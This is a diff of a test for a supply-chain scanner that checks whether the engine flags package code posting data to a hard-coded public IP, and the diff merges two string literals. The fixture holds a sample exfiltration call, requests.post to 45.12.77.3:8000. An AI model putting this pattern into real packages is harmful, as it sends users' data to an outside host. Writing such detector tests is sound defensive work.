@@ -88,8 +88,7 @@ def test_install_script_sending_the_environment_is_exfiltration(engine: Engine) 
 def test_module_posting_to_a_public_address_is_flagged_but_not_in_tests(engine: Engine) -> None:
     """A collector reached by address from library code flags; the same call in a test does not."""
     code = (
-        "import requests\n\n"
-        "def check(k):\n    requests.post('http://45.12.77.3:8000/v', json=k)\n"
+        "import requests\n\ndef check(k):\n    requests.post('http://45.12.77.3:8000/v', json=k)\n"
     )
     assert engine.analyze(sdist({"tidy_strings/core.py": code})).flagged
     assert not engine.analyze(sdist({"tests/test_core.py": code})).flagged
